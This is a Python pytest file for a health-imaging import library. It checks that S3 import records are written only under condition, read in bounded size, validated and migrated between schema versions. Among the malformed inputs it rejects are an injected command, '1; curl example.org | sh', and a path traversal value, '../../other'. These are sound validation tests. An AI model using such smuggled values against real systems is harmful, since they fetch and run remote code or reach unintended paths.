"""The records of an import: written under condition only, read in bounded size and with care."""

from __future__ import annotations

import contextlib
import dataclasses
import io
import json
import threading
from collections.abc import Callable
from typing import Any

import pytest
from botocore.response import StreamingBody
from botocore.stub import Stubber

from healthimaging_import.aws.clients import Aws
from healthimaging_import.contract import Verdict
from healthimaging_import.errors import RetryableError, TerminalError
from healthimaging_import.importing.last_runs import LastRuns
from healthimaging_import.importing.record import LONGEST_DOCUMENT, Owner, Record, Records, State
from healthimaging_import.importing.request import ImportRequest
from healthimaging_import.importing.verdict import RUNNING, Counts, ImportResult
from tests.handler.fake_aws import RESULTS, FakeAws

INTENT = "a" * 64
FOLDER = "imports/.healthimaging-cdk/"
KEY = f"{FOLDER}{INTENT}.json"
RECORD = Record(
    intent=INTENT,
    attempt=1,
    state=State.CLAIMED,
    owner=Owner("first", 7.0),
    parameters={"clientToken": "t", "datastoreId": "0" * 32},
)
JOB = {"jobId": "1", "submittedAt": "2026-11-25T00:00:00+00:00"}
RESULT = ImportResult("1", "COMPLETED", JOB["submittedAt"], Counts(3, 2, 1, warnings={"45344": 1}), seconds=1.5)
RequestFor = Callable[..., ImportRequest]


def written(**changes: Any) -> bytes:
    """The record as it is written, with some members changed."""
    return json.dumps({**json.loads(RECORD.encode()), **changes}).encode()


@pytest.fixture
def records(calls: Aws, request_for: RequestFor) -> Records:
    return Records(calls, request_for())


def owner_of(name: str) -> Record:
    return dataclasses.replace(RECORD, owner=Owner(name, 8.0))


# -- written under condition -----------------------------------------------------------------------------------------


def test_an_intent_nobody_claimed_has_no_record(records: Records) -> None:
    assert records.load(INTENT) is None


def test_a_record_is_read_as_it_was_written(records: Records) -> None:
    assert records.save(RECORD) == records.load(INTENT)


def test_fails_to_claim_what_is_claimed(records: Records) -> None:
    first = records.save(RECORD)
    with pytest.raises(RetryableError, match="another execution of the same import is at work"):
        records.save(owner_of("second"))
    assert first == records.load(INTENT)


def test_one_of_many_claims_at_once_wins(records: Records) -> None:
    won: list[str] = []

    def claim(name: str) -> None:
        with contextlib.suppress(RetryableError):
            won.append(records.save(owner_of(name)).owner.request_id)

    threads = [threading.Thread(target=claim, args=(str(number),)) for number in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    stored = records.load(INTENT)
    assert stored is not None
    assert [stored.owner.request_id] == won


def test_a_new_attempt_replaces_the_one_that_was_read(records: Records) -> None:
    first = records.save(RECORD)
    second = records.save(first, attempt=2)
    assert second == records.load(INTENT)
    assert 2 == second.attempt


def test_fails_to_replace_what_somebody_changed_in_between(records: Records) -> None:
    first = records.save(RECORD)
    changed = records.save(first, state=State.RUNNING, job=JOB)
    with pytest.raises(RetryableError):
        records.save(first, state=State.REFUSED)
    with pytest.raises(RetryableError):
        records.save(first, attempt=2)
    assert changed == records.load(INTENT)


def test_fails_to_save_over_a_record_that_was_deleted(records: Records, aws: FakeAws) -> None:
    first = records.save(RECORD)
    aws.objects.clear()
    with pytest.raises(RetryableError):
        records.save(first, state=State.REFUSED)
    assert [] == aws.keys(RESULTS)


def test_no_record_is_ever_written_without_a_condition(records: Records, aws: FakeAws) -> None:
    stored = records.save(RECORD)
    aws.put(RESULTS, KEY, b"{}")
    for record in (stored, RECORD):
        with pytest.raises(RetryableError):
            records.save(record)
    assert b"{}" == aws.objects[RESULTS, KEY]


def test_a_write_whose_answer_was_lost_is_found_by_the_next_look(records: Records, aws: FakeAws) -> None:
    aws.fail("S3.PutObject", "InternalError", 500, after=True)
    with pytest.raises(RetryableError, match=r"s3:PutObject .import record. answered InternalError"):
        records.save(RECORD)
    stored = records.load(INTENT)
    assert stored is not None
    assert RECORD == stored


def test_two_writers_at_the_same_moment_try_again(records: Records, aws: FakeAws) -> None:
    aws.fail("S3.PutObject", "ConditionalRequestConflict", 409)
    with pytest.raises(RetryableError):
        records.save(RECORD)


@pytest.mark.parametrize("code", ["ThrottlingException", "SlowDown", "ExpiredToken"])
@pytest.mark.parametrize("operation", ["GetObject", "PutObject"])
def test_what_passes_is_waited_for(records: Records, aws: FakeAws, operation: str, code: str) -> None:
    aws.fail(f"S3.{operation}", code, 400)
    call = {"GetObject": lambda: records.load(INTENT), "PutObject": lambda: records.save(RECORD)}[operation]
    with pytest.raises(RetryableError, match=f"s3:{operation} .import record. answered {code}"):
        call()


def test_fails_at_once_when_the_bucket_may_not_be_read(records: Records, aws: FakeAws) -> None:
    aws.fail("S3.GetObject", "AccessDenied", 403)
    with pytest.raises(TerminalError, match=r"s3:GetObject .import record. answered AccessDenied.*: a permission is"):
        records.load(INTENT)


def test_a_denial_may_pass_while_iam_propagates(propagating: Aws, aws: FakeAws, request_for: RequestFor) -> None:
    records = Records(propagating, request_for())
    aws.fail("S3.GetObject", "AccessDenied", 403)
    with pytest.raises(RetryableError):
        records.load(INTENT)
    aws.fail("S3.PutObject", "AccessDenied", 403)
    with pytest.raises(RetryableError):
        records.save(RECORD)
    assert RECORD == records.save(RECORD)


# -- read with care --------------------------------------------------------------------------------------------------

JUDGED = {"state": "JUDGED", "job": JOB, "verdict": "SUCCEEDED"}


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"null",
        b"[]",
        b'"text"',
        b"\xff\xfe",
        b'{"schema": 2}',
        b'{"schema": 1}',
        b"{}",
        b"[" * 100_000,
        written(schema=None),
        written(schema="2"),
        written(schema=2.0),
        written(intent=None),
        written(intent="b" * 64),
        written(attempt="1"),
        written(attempt=0),
        written(attempt=True),
        written(claimed_at=None),
        written(lease_until="soon"),
        written(owner=None),
        written(owner={}),
        written(owner_began_at="1"),
        written(parameters=None),
        written(parameters=[]),
        written(job=[]),
        written(job=None),
        written(**JUDGED, result=None),
        written(**JUDGED, result={"counts": 7}),
        written(**JUDGED, result={"job_id": 7}),
        written(reason=None),
        written(published="yes"),
        written(responded_to=None),
        written(state="LOST"),
        written(state=[]),
        written(state="RUNNING"),
        written(state="RUNNING", job={"jobId": "1"}),
        written(state="RUNNING", job={"submittedAt": JOB["submittedAt"]}),
        written(state="RUNNING", job={**JOB, "submittedAt": "yesterday"}),
        written(state="RUNNING", job={**JOB, "jobId": "../../other"}),
        written(state="RUNNING", job={**JOB, "jobId": "1; curl example.org | sh"}),
        written(state="RUNNING", job={**JOB, "jobId": "a" * 33}),
        written(state="RUNNING", job={**JOB, "jobId": 1}),
        written(state="JUDGED", job=JOB),
        written(state="JUDGED", verdict="SUCCEEDED"),
        written(state="JUDGED", verdict="FAILED"),
        written(**JUDGED | {"verdict": "GREAT"}),
        written(**JUDGED, result={"counts": {"imported": "7"}}),
    ],
)
def test_fails_for_a_damaged_record_with_the_way_out(records: Records, aws: FakeAws, body: bytes) -> None:
    aws.put(RESULTS, KEY, body)
    with pytest.raises(TerminalError) as refused:
        records.load(INTENT)
    expected = (
        f"the import record .healthimaging-cdk/{INTENT}.json in the output bucket is damaged: put an earlier version "
        "of it back and deploy again, or deploy again with a run_id not used before to import again"
    )
    assert expected == str(refused.value)


@pytest.mark.parametrize("document", [{"schema": 3}, {"schema": 99, "intent": INTENT}, {"schema": 0}])
def test_fails_for_a_record_of_another_schema(records: Records, aws: FakeAws, document: dict[str, Any]) -> None:
    aws.put(RESULTS, KEY, json.dumps(document).encode())
    expected = f"has schema {document['schema']}, this version reads 1 to 2: deploy with a newer library"
    with pytest.raises(TerminalError, match=expected):
        records.load(INTENT)


class CountingStream(io.BytesIO):
    """Counts what is read of it."""

    taken = 0

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self.taken += len(data)
        return data


def test_fails_for_a_record_of_two_mebibytes_without_reading_it_all(records: Records, calls: Aws) -> None:
    size = 2 * 1024**2
    stream = CountingStream(written().ljust(size))
    with Stubber(calls.client("s3")) as stubber:
        stubber.add_response("get_object", {"Body": StreamingBody(stream, size), "ETag": '"1"'})
        with pytest.raises(TerminalError, match="is damaged"):
            records.load(INTENT)
    assert LONGEST_DOCUMENT + 1 == stream.taken == 1024**2 + 1


@pytest.mark.parametrize(
    "changes",
    [
        {},
        {"lease_until": 1000.5},
        {"state": State.REFUSED, "reason": "why"},
        {"state": State.RUNNING, "job": JOB, "responded_to": "first", "ended_at": 9.5},
        {"state": State.JUDGED, "job": JOB, "verdict": Verdict.SUCCEEDED, "result": RESULT, "published": True},
        {"state": State.JUDGED, "job": JOB, "verdict": Verdict.FAILED, "result": RESULT, "reason": "why"},
        {"state": State.JUDGED, "verdict": Verdict.UNKNOWN},
    ],
)
def test_a_record_of_every_state_is_read_as_it_was_written(records: Records, changes: dict[str, Any]) -> None:
    record = dataclasses.replace(RECORD, **changes)
    records.save(record)
    read = records.load(INTENT)
    assert read is not None
    assert record == read


def test_a_record_may_hold_more_than_this_version_knows(records: Records, aws: FakeAws) -> None:
    aws.put(RESULTS, KEY, written(later="addition", result={"counts": {"later": 1}, "later": "addition"}))
    read = records.load(INTENT)
    assert read is not None
    assert RECORD.owner == read.owner


@pytest.mark.parametrize("member", ["claimed_at", "lease_until", "ended_at", "reason", "published", "responded_to"])
def test_a_record_may_hold_less_than_this_version_knows(records: Records, aws: FakeAws, member: str) -> None:
    document = json.loads(written())
    del document[member]
    aws.put(RESULTS, KEY, json.dumps(document).encode())
    read = records.load(INTENT)
    assert read is not None
    assert RECORD == read


# -- records of the first version ------------------------------------------------------------------------------------


def first_version(**changes: Any) -> bytes:
    """A record as the first version wrote it."""
    record = {
        "schema": 1,
        "intent": INTENT,
        "attempt": 2,
        "asked_by": "asker",
        "parameters": {"clientToken": "t"},
        "state": "CLAIMED",
        "claimed_at": 5.0,
        "job": {},
        "outcome": {},
        "reason": "",
        "awaited_by": "",
        "followed_by": "",
    }
    return json.dumps({**record, **changes}).encode()


OUTCOME = {"finished": True, "job_id": "1", "job_status": "COMPLETED", "counts": {"scanned": 3, "imported": 3}}


@pytest.mark.parametrize(
    ("old", "expected"),
    [
        ({}, {"state": State.CLAIMED, "lease_until": 5.0}),
        ({"claimed_at": 0.0}, {"state": State.CLAIMED, "lease_until": 1.0}),
        ({"state": "STARTED", "job": JOB}, {"state": State.RUNNING, "job": JOB}),
        ({"state": "FAILED", "reason": "why"}, {"state": State.REFUSED, "reason": "why", "verdict": None}),
        (
            {"state": "FAILED", "job": JOB, "reason": "why", "awaited_by": "other"},
            {"state": State.JUDGED, "verdict": Verdict.FAILED, "reason": "why", "owner": Owner("asker", 0.0)},
        ),
        (
            {"state": "SUCCEEDED", "job": JOB, "outcome": OUTCOME},
            {
                "state": State.JUDGED,
                "verdict": Verdict.SUCCEEDED,
                "result": ImportResult("1", "COMPLETED", counts=Counts(3, 3)),
            },
        ),
        ({"state": "STARTED", "job": JOB, "awaited_by": "other"}, {"owner": Owner("other", 0.0)}),
        (
            {"state": "STARTED", "job": JOB, "awaited_by": "other", "followed_by": "follower"},
            {"owner": Owner("follower", 0.0)},
        ),
    ],
)
def test_a_record_of_the_first_version_is_translated(
    records: Records, aws: FakeAws, old: dict[str, Any], expected: dict[str, Any]
) -> None:
    aws.put(RESULTS, KEY, first_version(**old))
    read = records.load(INTENT)
    assert read is not None
    assert expected == {name: getattr(read, name) for name in expected}
    assert (2, True) == (read.attempt, read.published)


@pytest.mark.parametrize(
    "old",
    [
        {"asked_by": None},
        {"state": "LOST"},
        {"state": "STARTED"},
        {"state": "SUCCEEDED", "outcome": OUTCOME},
        {"state": "SUCCEEDED", "job": JOB, "outcome": {"counts": 7}},
        {"parameters": None},
    ],
)
def test_fails_for_a_damaged_record_of_the_first_version(records: Records, aws: FakeAws, old: dict[str, Any]) -> None:
    aws.put(RESULTS, KEY, first_version(**old))
    with pytest.raises(TerminalError, match="is damaged"):
        records.load(INTENT)


# -- manifests -------------------------------------------------------------------------------------------------------


def test_the_manifest_of_each_attempt_is_kept_beside_the_record(records: Records, aws: FakeAws) -> None:
    for body in (b"manifest", b"manifest again"):
        record = dataclasses.replace(RECORD, attempt=3)
        records.keep_manifest(record, body)
        assert f"s3://{RESULTS}/{FOLDER}{INTENT}-3/job-output-manifest.json" == records.manifest_uri(record)
        assert body == aws.objects[RESULTS, f"{FOLDER}{INTENT}-3/job-output-manifest.json"]


# -- the last runs ---------------------------------------------------------------------------------------------------


def last_key(request: ImportRequest) -> str:
    return f"{FOLDER}{request.store_scope}-last.json"


def test_the_run_that_was_started_last_is_remembered(records: Records, request_for: RequestFor) -> None:
    assert "" == LastRuns(records).resolve(request_for())
    for run_id in ("1", "2", ""):
        request = request_for(run_id=run_id)
        LastRuns(records).note_started(request)
        assert run_id == LastRuns(records).resolve(request_for())
        assert not LastRuns(records).is_current(request, None)  # its record is gone
        records.save(dataclasses.replace(RECORD, intent=request.intent))
        assert LastRuns(records).is_current(request, None)


def test_what_is_remembered_is_not_written_again(records: Records, aws: FakeAws, request_for: RequestFor) -> None:
    run = request_for(run_id="1")
    for _ in range(3):
        LastRuns(records).note_started(run)
    assert 1 == aws.count("S3.PutObject", "-last.json")
    for _ in range(3):
        LastRuns(records).note_imported(run, 5.0)
    assert 2 == aws.count("S3.PutObject", "-last.json")


def test_of_two_runs_that_imported_the_one_submitted_later_is_remembered(
    records: Records, request_for: RequestFor
) -> None:
    for run_id, submitted_at in (("late", 9.0), ("early", 5.0)):
        LastRuns(records).note_imported(request_for(run_id=run_id), submitted_at)
    last = LastRuns(records).imported
    assert last
    assert ("late", 9.0) == (last.run_id, last.submitted_at)


@pytest.mark.parametrize(
    ("record", "expected"),
    [
        ({"state": State.CLAIMED}, "2"),
        ({"state": State.RUNNING, "job": JOB}, "2"),
        ({"state": State.JUDGED, "job": JOB, "verdict": Verdict.SUCCEEDED}, "2"),
        ({"state": State.JUDGED, "job": JOB, "verdict": Verdict.UNKNOWN}, "2"),
        ({"state": State.JUDGED, "job": JOB, "verdict": Verdict.FAILED}, "1"),
        ({"state": State.REFUSED}, "1"),
    ],
)
def test_a_deploy_without_a_run_id_means_the_last_run_unless_it_failed(
    records: Records, request_for: RequestFor, record: dict[str, Any], expected: str
) -> None:
    good, last = request_for(run_id="1"), request_for(run_id="2")
    LastRuns(records).note_imported(good, 1.0)
    LastRuns(records).note_started(last)
    records.save(dataclasses.replace(RECORD, intent=last.intent, **record))
    assert expected == LastRuns(records).resolve(request_for())


def test_a_run_of_another_meaning_is_not_meant(records: Records, request_for: RequestFor) -> None:
    other = request_for(input_prefix="other/", run_id="2")
    LastRuns(records).note_started(other)
    LastRuns(records).note_imported(other, 1.0)
    assert "" == LastRuns(records).resolve(request_for())
    assert not LastRuns(records).is_current(request_for(), None)


def test_what_the_deploy_before_asked_for_is_current(records: Records, request_for: RequestFor) -> None:
    LastRuns(records).note_started(request_for(run_id="2"))
    before = request_for(run_id="1")
    assert LastRuns(records).is_current(request_for(run_id="1"), before)
    assert not LastRuns(records).is_current(request_for(run_id="1"), request_for(run_id="3"))


def test_the_latest_run_of_the_first_version_is_read(records: Records, aws: FakeAws, request_for: RequestFor) -> None:
    aws.put(RESULTS, f"{FOLDER}{request_for().series}-latest.json", b'{"schema": 1, "run_id": "7"}')
    assert "7" == LastRuns(records).resolve(request_for())
    LastRuns(records).note_started(request_for(run_id="8"))
    assert "8" == LastRuns(records).resolve(request_for())


DAMAGED = [
    b"",
    b"{}",
    b"{",
    b"null",
    b"7",
    b"[" * 100_000,
    b'{"schema": 2}',
    b'{"schema": 2, "started": 7, "imported": null}',
    b'{"schema": 2, "started": null, "imported": {"series": "", "run_id": "", "intent": "", "submitted_at": "x"}}',
    b'{"schema": 2, "started": {"series": "", "run_id": 7, "intent": ""}, "imported": null}',
]


@pytest.mark.parametrize("body", DAMAGED)
def test_fails_for_damaged_last_runs_with_the_way_out(
    records: Records, aws: FakeAws, request_for: RequestFor, body: bytes
) -> None:
    aws.put(RESULTS, last_key(request_for()), body)
    with pytest.raises(TerminalError) as refused:
        LastRuns(records).resolve(request_for())
    expected = (
        f"the import record .healthimaging-cdk/{request_for().store_scope}-last.json in the output bucket is damaged: "
        "put an earlier version of it back and deploy again, or deploy again with a run_id not used before to import "
        "again"
    )
    assert expected == str(refused.value)


@pytest.mark.parametrize("body", DAMAGED)
def test_damaged_last_runs_are_written_anew_by_a_new_run(
    aws: FakeAws, deploy: Any, request_for: RequestFor, body: bytes
) -> None:
    aws.put("source", "studies/1.dcm", b"1")
    aws.put(RESULTS, last_key(request_for()), body)
    new = deploy("new", run_id="not used before")
    assert new.step().job_status in RUNNING
    assert "not used before" == LastRuns(new.context.records).resolve(request_for())


def test_fails_for_last_runs_of_another_schema(records: Records, aws: FakeAws, request_for: RequestFor) -> None:
    aws.put(RESULTS, last_key(request_for()), b'{"schema": 3}')
    with pytest.raises(TerminalError, match=r"-last.json in the output bucket has schema 3, this version reads 1 to 2"):
        LastRuns(records).resolve(request_for())
